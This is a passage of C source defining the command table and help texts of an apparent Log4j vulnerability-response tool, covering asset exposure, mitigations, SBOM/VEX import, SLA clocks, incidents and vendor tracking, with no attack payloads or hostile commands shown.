     "Prints how a string is decoded, what each Log4j version makes of it, lookup by lookup, and the grade with its reason. "
     "'-' reads the string from standard input.",
     explain_options, sizeof explain_options / sizeof *explain_options, explain_examples, ct_cmd_explain},
#ifndef CT_SENSOR
    {"affected", "CVE", "what is affected by a vulnerability, and what that answer rests on",
     "Opens with coverage: the assets that are known, those that a complete look reached lately, those whose look is stale or covered a part, and those that nobody "
     "looked at, by environment and exposure; lists the unassessed; then the affected with state, protection, owner and clock.\n\n"
     "A vulnerability of which nothing is loaded and which no class rule knows is an error, never an empty table. Exit status: 1 something is affected, 3 nothing is "
     "known to be but not everything was looked at, 0 neither.",
     affected_options, sizeof affected_options / sizeof *affected_options, affected_examples, ct_cmd_affected},
    {"why", "ASSET CVE", "everything behind one answer: component, place, evidence, sources, controls, clock",
     "Says in words what an asset's state rests on, place by place and source by source, also when it is not affected, or when nobody can tell. NAME@ENVIRONMENT "
     "tells assets of one name apart.",
     why_options, sizeof why_options / sizeof *why_options, why_examples, ct_cmd_why},
    {"changed", "", "what changed lately: findings, advisories, assets, looks",
     "Counts and lists what the timeline holds since --since (default: 24h).",
     changed_options, sizeof changed_options / sizeof *changed_options, changed_examples, ct_cmd_changed},
    {"advisory", "add|same|kev [PATH|NAME]...", "what is known to be vulnerable",
     "'advisory add' takes OSV records: files, folders, archives of whole ecosystems. Names of one vulnerability are folded into one; each record keeps its word under "
     "its source, and where sources contradict each other affected counts. 'advisory add --name' is for the hours before any record exists; 'advisory same' says "
     "that two names are one; 'advisory kev' takes CISA's catalogue of known exploited vulnerabilities.\n\n"
     "Every finding that rests on them is derived again, and what that opened, reopened and left is said.",
     advisory_options, sizeof advisory_options / sizeof *advisory_options, advisory_examples, ct_cmd_advisory},
    {"attempts", "[import FILE...]", "what was tried, and on which assets it would have fired",
     "'attempts import' keeps the events of 'caltrop detect --json'; one that was taken before changes nothing. Without it, what was tried is listed by campaign.\n\n"
     "--against-assets says for each campaign and asset: would fire, would not, or cannot rule out, by the releases that were there when the attempt came, the kind of log call, "
     "settings, controls and what the scans saw; and target unknown where no route leads to an asset. An asset that nobody looked at completely can never be ruled out. Status and "
     "WAF outcome are shown and prove nothing. Exit status: 1 one would have fired, 3 none is known to and not all could be ruled out, 0 none would.",
     attempts_options, sizeof attempts_options / sizeof *attempts_options, attempts_examples, ct_cmd_attempts},
    {"route", "add|list|remove|import [SERVICE|ID|FILE]...", "which assets a request in a log went to, and who reads what it left",
     "A log, a virtual host, or both belong to a service; assets serve it, and assets read what it writes or sends on. 'route import' takes CSV with the columns service, log, host, asset "
     "and role (serves, reads); again, it changes nothing.",
     route_options, sizeof route_options / sizeof *route_options, route_examples, ct_cmd_route},
    {"control", "add|list|end [ASSET] [KIND|ID]", "what stands between a flaw and whoever would use it",
     "'control add ASSET KIND' with KIND class-removed (JndiLookup.class), no-lookups (the flag), security-manager (its policy denies sockets), hot-patch or isolated. What each "
     "covers is known per CVE and release: no-lookups works in 2.10.0 to 2.14.1, and not for CVE-2021-45046. More than that needs --claim. It ends by --until or 'control end ID', "
     "and what it protected is open again. KIND waf and egress are noted beside the findings, and change neither state nor clock.\n\n"
     "'control list [ASSET]' shows those put in by hand, and those that scans saw in classes and processes.",
     control_options, sizeof control_options / sizeof *control_options, control_examples, ct_cmd_control},
    {"sbom", "add ASSET FILE... | export ASSET", "bills of materials in and out",
     "'sbom add' takes CycloneDX (JSON, XML) and SPDX 2.3 (JSON) as what an asset holds. A bill closes what an earlier one about the same subject listed and it does not, unless it "
     "calls itself incomplete, and nothing that a scan saw. Components without a package URL are kept and named: no advisory can find them. All of a run or nothing is taken; "
     "what is wrong is named with its line.\n\n"
     "'sbom export' writes what is known of an asset, or with --estate of all, whoever saw it.",
     sbom_options, sizeof sbom_options / sizeof *sbom_options, sbom_examples, ct_cmd_sbom},
    {"vex", "add FILE... | list [CVE] | export [CVE]", "what vendors say of their products, and what we say",
     "'vex add' takes CSAF 2.0, OpenVEX, CycloneDX, CISA's list of vendors and tables, as files or folders. Every statement is kept with its source; it counts where it names a package "
     "URL that an asset holds, or where --asset says whose it is. not_affected needs a justification, and the very version; what was seen on a host outweighs it, and where sources "
     "contradict each other affected counts. What counts for nothing is told with its line. 'vex list' shows all that was said.\n\n"
     "'vex export' writes the findings as OpenVEX or CycloneDX.",
     vex_options, sizeof vex_options / sizeof *vex_options, vex_examples, ct_cmd_vex},
    {"asset", "add|list|set|retire|import [NAME|FILE]...", "what can be affected: hosts, images, applications",
     "Keeps the assets that answers are about, with environment, exposure, owner, criticality and tags. 'asset import' reads a CSV list with a "
     "header line, or JSON, all of it or nothing; again, it changes only what differs. NAME@ENVIRONMENT tells assets of one name apart.\n\n"
     "Every change stands in the timeline with who, what it was, what it is, and why.",
     asset_options, sizeof asset_options / sizeof *asset_options, asset_examples, ct_cmd_asset},
    {"policy", "list|show|use|check [NAME|FILE]", "how long a finding may stay open",
     "A policy gives each finding its time, by severity, environment, exposure, criticality, known exploitation, automatability and impact. Shipped are mailgun (the one in "
     "use until you say otherwise), mailgun-incident, cisa-bod-26-04, cisa-ed-22-02, fedramp-vdr and common; your own are YAML.\n\n"
     "'policy use' sets due times anew: a stricter policy moves them earlier; a looser one moves nothing, unless --loosen says so with a reason. What is not known of a "
     "finding counts as the worst.",
     policy_options, sizeof policy_options / sizeof *policy_options, policy_examples, ct_cmd_policy},
    {"sla", "due|overdue|move|facts [ASSET] [CVE]", "what is due, and what is late",
     "'sla due' lists what has a time, soonest first; 'sla overdue' what is past it; --within 4h: what is late by then; --all: also what was late once. Exit status: 1 when "
     "something is listed, 0 when nothing is.\n\n"
     "'sla move ASSET CVE --due TIME' is a person's decision; a later time needs --why. 'sla facts CVE' notes when you were told of it, and what policies ask about. "
     "A mark of having been late is permanent.",
     sla_options, sizeof sla_options / sizeof *sla_options, sla_examples, ct_cmd_sla},
    {"acceptance", "add|end|list [ASSET CVE]", "risks that somebody takes for a time",
     "An acceptance has an approver, an end and a reason. Due times move by what it lasts: what was left of the time goes on behind it, and the policy's own time stays in "
     "sight. It changes no state, and no mark of having been late. 'acceptance end' ends it early.",
     acceptance_options, sizeof acceptance_options / sizeof *acceptance_options, acceptance_examples, ct_cmd_acceptance},
    {"rollout", "start|stage|verify|skip|show [NAME] [STAGE]", "a fix on its way from development over staging to production",
     "The gate of a stage opens ('rollout stage') when the stage before it is verified: every asset there that had to do with the vulnerabilities has a later complete look "
     "at files and processes that sees nothing of them any more. 'rollout verify' with --why takes a person's word instead; 'rollout skip' leaves a stage out, by name and "
     "with a reason. Both stay in sight. Exit status of verify: 1 when something stands in the way.",
     rollout_options, sizeof rollout_options / sizeof *rollout_options, rollout_examples, ct_cmd_rollout},
    {"incident", "open|join|role|task|done|show|close ...", "what is answered to together: clocks, roles, tasks, notes",
     "'incident open' begins one for vulnerabilities, known or not; --mode incident puts a policy with short times over the one in use, and starts its clocks: identification "
     "and first patch. 'incident join' adds CVE n+1. 'incident task' gives a number, 'incident done' ends a task or, with --why, meets a clock. "
     "'incident close' needs --why; due times stay as they are.",
     incident_options, sizeof incident_options / sizeof *incident_options, incident_examples, ct_cmd_incident},
    {"vendor", "add|list|show|import|ask|remind|answer|...", "third parties: what they say, who is silent, what is limited",
     "Keeps vendors with products, contacts and what they hold of ours. 'vendor import' takes our own list (CSV) and what others publish: CISA's list, CSAF, OpenVEX, "
     "CycloneDX, tables. 'vendor ask' writes the letter to one (VENDOR CVE...) or to all who have not answered (--all CVE...), 'vendor remind' the next one; both are noted. "
     "'vendor answer VENDOR CVE STATUS' notes what came back. 'vendor silent CVE' lists who has not answered, 'vendor reversals' who changed its word, 'vendor limit' and "
     "'vendor lift' what we took away from them until they do.\n\n"
     "Who answered for one vulnerability has not answered for the next. Statements are kept for good, and close nothing of ours.",
     vendor_options, sizeof vendor_options / sizeof *vendor_options, vendor_examples, ct_cmd_vendor},
    {"report", "[CVE]...", "the page that a commander hands to the board",
     "Writes coverage, what is affected by environment and exposure, clocks, incidents, the roll-out, vendors and their silence, limits, attempts, and the end of the "
     "timeline with its last hash, for the vulnerabilities that are named, else for those of open incidents and those with most open findings. The HTML is one file with "
     "charts: no script, nothing loaded, made to be printed.",
     report_options, sizeof report_options / sizeof *report_options, report_examples, ct_cmd_report},
    {"timeline", "", "what happened, in order, and whether any of it was altered",
     "Prints every change of the store. Entries are chained by hashes: --verify notices an altered or missing one. Whoever can write the file can write "
     "a whole new chain; keep the last hash elsewhere to notice that too.",
     timeline_options, sizeof timeline_options / sizeof *timeline_options, timeline_examples, ct_cmd_timeline},
    {"store", "backup FILE | check", "the database behind assets, findings and the timeline",
     "It is one SQLite file, caltrop.db in the data directory. Several programs may work on it at once.",
     store_options, sizeof store_options / sizeof *store_options, store_examples, ct_cmd_store},
    {"self-test", "", "check this very program on known attacks and harmless text",
     "Runs a built-in set of attacks and harmless strings through the verdict core of this binary, as it stands on this "
     "machine.",
     help_only, 1, NULL, ct_cmd_self_test},
#endif
    {"version", "", "version, and with -v how it was built", "Prints the version; -v adds compiler, options and libraries.",
     version_options, sizeof version_options / sizeof *version_options, NULL, ct_cmd_version},
};

const char *ct_program(void)
{
#ifdef CT_SENSOR
    return "caltrop-sensor";
#else
    return "caltrop";
#endif
}

const struct ct_command *ct_commands(size_t *ret_n)
{
    *ret_n = sizeof commands / sizeof *commands;
    return commands;
}

const struct ct_command *ct_command_find(const char *name)
{
    for (size_t i = 0; i < sizeof commands / sizeof *commands; i++)
        if (strcmp(commands[i].name, name) == 0) return &commands[i];
    return NULL;
}

const struct ct_option *ct_option_get(enum ct_option_id id)
{
    for (size_t i = 0; i < sizeof options / sizeof *options; i++)
        if (options[i].id == id) return &options[i];
    return NULL;
}
